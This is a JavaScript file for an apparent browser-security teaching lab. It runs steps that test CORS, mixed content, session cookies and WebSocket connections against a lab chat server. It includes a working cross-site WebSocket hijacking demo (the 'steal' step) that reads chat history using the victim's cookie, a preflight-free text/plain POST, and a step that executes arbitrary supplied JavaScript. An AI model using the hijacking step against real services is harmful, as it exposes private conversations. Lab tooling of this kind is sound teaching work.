// The labkit messenger page. It runs its steps on load (unless ?manual=1) and shows each step's
// state in the DOM: ok / blocked / error / skipped, with the error text. The browser's *reason* for a
// block (CORS, mixed content, certificate) is only in the console: JavaScript is deliberately not told.
(() => {
  "use strict";
  const cfg = window.LABKIT_CONFIG;
  const TIMEOUT_MS = 5000;
  let socket = null;
  const results = {};
  window.labkit = { config: cfg, results };

  const $ = (sel) => document.querySelector(sel);

  // In a sandboxed frame (origin "null") the top page shows the steps: tell it each one.
  const framed = cfg.sandboxed && window.parent !== window;
  const tellTop = (msg) => { if (framed) window.parent.postMessage(msg, "*"); };

  function show(step, state, detail) {
    results[step] = { state, detail: detail || "" };
    tellTop({ type: "labkit-step", step, state, detail: detail || "" });
    const li = $("#step-" + step);
    if (!li) return;
    li.dataset.state = state;
    li.querySelector(".state").textContent = state;
    li.querySelector(".detail").textContent = detail || "";
  }

  function logLine(text) {
    const div = document.createElement("div");
    div.textContent = text;
    $("#chatlog").appendChild(div);
  }

  async function callApi(path, init) {
    if (cfg.api === null) return { state: "skipped", detail: "this page has no API" };
    let resp;
    try {
      resp = await fetch(cfg.api + path, { credentials: cfg.credentials, ...(init || {}) });
    } catch (e) {
      // A TypeError here is how the browser reports CORS and mixed-content blocks to scripts.
      return { state: "blocked", detail: `${e.name}: ${e.message}` };
    }
    if (!resp.ok) return { state: "error", detail: `HTTP ${resp.status}` };
    try {
      return { state: "ok", body: await resp.json() };
    } catch (e) {
      return { state: "error", detail: `bad JSON: ${e.message}` };
    }
  }

  function waitFor(ws, predicate) {
    return new Promise((resolve) => {
      const timer = setTimeout(() => resolve({ state: "error", detail: "timed out" }), TIMEOUT_MS);
      ws.addEventListener("message", (ev) => {
        let msg;
        try { msg = JSON.parse(ev.data); } catch (e) { return; }
        const r = predicate(msg);
        if (r) { clearTimeout(timer); resolve(r); }
      });
      ws.addEventListener("close", (ev) => {
        clearTimeout(timer);
        resolve({ state: "blocked", detail: `connection closed (code ${ev.code})` });
      });
    });
  }

  // Behind a reverse proxy the page is given a path ("/ws"): same host, scheme from the page
  // (or forced, to show that ws:// to the proxy is still mixed content).
  function absoluteWs(url) {
    if (!url.startsWith("/")) return url;
    const scheme = cfg.ws_scheme || (location.protocol === "https:" ? "wss" : "ws");
    return `${scheme}://${location.host}${url}`;
  }

  async function openSocket(url) {
    let ws;
    url = absoluteWs(url);
    try {
      ws = new WebSocket(url);
    } catch (e) {
      // Mixed content: an https page may not even construct a ws:// socket.
      return { failed: { state: "blocked", detail: `${e.name}: ${e.message}` } };
    }
    const failed = await new Promise((resolve) => {
      const timer = setTimeout(() => resolve({ state: "error", detail: "timed out" }), TIMEOUT_MS);
      ws.addEventListener("open", () => { clearTimeout(timer); resolve(null); });
      ws.addEventListener("close", (ev) => {
        clearTimeout(timer);
        // The page is never told why (403, certificate, no TLS): only the console says.
        resolve({ state: "blocked", detail: `connection failed (close code ${ev.code})` });
      });
    });
    return failed ? { failed } : { ws };
  }

  const steps = {
    async hello() {
      const r = await callApi("/api/hello");
      return r.body ? { state: "ok", detail: r.body.message } : r;
    },
    async login() {
      const r = await callApi("/api/login", {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ user: cfg.user }),
      });
      // With credentials "omit" the browser drops the answer's Set-Cookie: no session kept.
      const kept = cfg.credentials === "omit" ? " (credentials 'omit': the browser keeps no session cookie)" : "";
      return r.body ? { state: "ok", detail: `logged in as ${r.body.user}${kept}` } : r;
    },
    async whoami() {
      // Read who the API takes this caller for: with credentials, whose cookie rode along.
      const r = await callApi("/api/whoami");
      return r.body ? { state: "ok", detail: `the API answered as ${r.body.user || "a guest (no session cookie)"}` } : r;
    },
    async bearer() {
      // A token in the Authorization header: not CORS-safelisted, so even a GET is preflighted.
      const r = await callApi("/api/hello", { headers: { Authorization: "Bearer lab-token" } });
      return r.body ? { state: "ok", detail: r.body.message } : r;
    },
    async rooms() {
      const r = await callApi("/api/rooms");
      return r.body ? { state: "ok", detail: r.body.rooms.join(", ") } : r;
    },
    async "post-text"() {
      // A "simple" request: text/plain POST, no preflight. The server acts on it either way.
      const r = await callApi("/api/counter", {
        method: "POST", headers: { "Content-Type": "text/plain" }, body: "+1",
      });
      return r.body ? { state: "ok", detail: `counter is ${r.body.counter}` } : r;
    },
    async socket() {
      if (cfg.ws === null) return { state: "skipped", detail: "this page has no chat" };
      const r = await openSocket(cfg.ws);
      if (r.failed) return r.failed;
      socket = r.ws;
      socket.addEventListener("message", (ev) => {
        try {
          const m = JSON.parse(ev.data);
          if (m.type === "message") logLine(`#${m.seq} ${m.user}: ${m.text}`);
        } catch (e) { /* not ours */ }
      });
      const joined = waitFor(socket, (m) => m.type === "history" &&
        { state: "ok", detail: `joined ${m.room} as ${m.user} (${m.messages.length} earlier messages)` });
      socket.send(JSON.stringify({ type: "join", room: cfg.room }));
      return joined;
    },
    async steal() {
      // The attacker's page: it never sees the victim's cookie, but the browser attaches it to
      // the WebSocket handshake, and no CORS rule stops the page from reading the answer.
      const r = await openSocket(cfg.ws);
      if (r.failed) return r.failed;
      // The attack works only if the browser sent the victim's session cookie along.
      // The socket opened either way (the browser allowed it); whether the attack paid off is
      // whose session the server saw: as a guest there is no history to read.
      const stolen = waitFor(r.ws, (m) => m.type === "history" && (m.user === "guest"
        ? { state: "ok", detail: "connected as guest: the handshake carried no session cookie, nothing to read" }
        : {
          state: "ok",
          detail: `read ${m.messages.length} messages of #${m.room} as ${m.user}` +
            (m.messages.length ? `: "${m.messages[m.messages.length - 1].text}"` : ""),
        }));
      r.ws.send(JSON.stringify({ type: "join", room: cfg.room }));
      const result = await stolen;
      for (const line of (result.state === "ok" ? [result.detail] : [])) logLine(line);
      r.ws.close(1000, "done");
      return result;
    },
    async sio() {
      if (typeof io === "undefined") return { state: "error", detail: "socket.io client not loaded" };
      const s = io(cfg.sio, { reconnection: false, timeout: TIMEOUT_MS,
        ...(cfg.sio_transports ? { transports: cfg.sio_transports } : {}) });
      return new Promise((resolve) => {
        const done = (r) => { clearTimeout(timer); s.close(); resolve(r); };
        const timer = setTimeout(() => done({ state: "error", detail: "timed out" }), TIMEOUT_MS);
        // A polling request blocked by CORS surfaces here only as "xhr poll error".
        s.on("connect_error", (err) => done({ state: "blocked", detail: `connect_error: ${err.message}` }));
        s.on("connect", () => {
          s.on("message", (m) => {
            if (m.text === cfg.message) done({ state: "ok", detail: `connected; message #${m.seq} delivered` });
          });
          s.emit("say", { text: cfg.message });
        });
      });
    },
    async script() {
      // Your own JavaScript (the attacker's page you wrote): the body of an async function
      // given cfg. What it returns is the step's result.
      const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
      const r = await new AsyncFunction("cfg", cfg.script)(cfg);
      return r && r.state ? r : { state: "ok", detail: String(r) };
    },
    async chat() {
      if (!socket || socket.readyState !== WebSocket.OPEN) {
        return { state: "skipped", detail: "no open chat socket" };
      }
      const text = cfg.message;
      const delivered = waitFor(socket, (m) => m.type === "message" && m.text === text &&
        { state: "ok", detail: `message #${m.seq} delivered to the room` });
      socket.send(JSON.stringify({ type: "say", text }));
      return delivered;
    },
  };

  async function run(name) {
    show(name, "running");
    let r;
    try {
      r = await steps[name]();
    } catch (e) {
      r = { state: "error", detail: `${e.name}: ${e.message}` };
    }
    show(name, r.state, r.detail);
    return r;
  }

  async function runAll() {
    document.documentElement.dataset.done = "false";
    if (socket) { socket.close(1000, "re-run"); socket = null; }
    for (const name of cfg.steps) await run(name);
    document.documentElement.dataset.done = "true";
    tellTop({ type: "labkit-done" });
  }

  window.labkit.run = run;
  window.labkit.runAll = runAll;

  document.addEventListener("DOMContentLoaded", () => {
    $("#run-all").addEventListener("click", runAll);
    for (const b of document.querySelectorAll("button[data-step]")) {
      b.addEventListener("click", () => run(b.dataset.step));
    }
    $("#say").addEventListener("submit", (ev) => {
      ev.preventDefault();
      const input = $("#say input");
      if (socket && socket.readyState === WebSocket.OPEN && input.value) {
        socket.send(JSON.stringify({ type: "say", text: input.value }));
        input.value = "";
      }
    });
    if (!new URLSearchParams(location.search).has("manual")) runAll();
    else document.documentElement.dataset.done = "true";
  });
})();
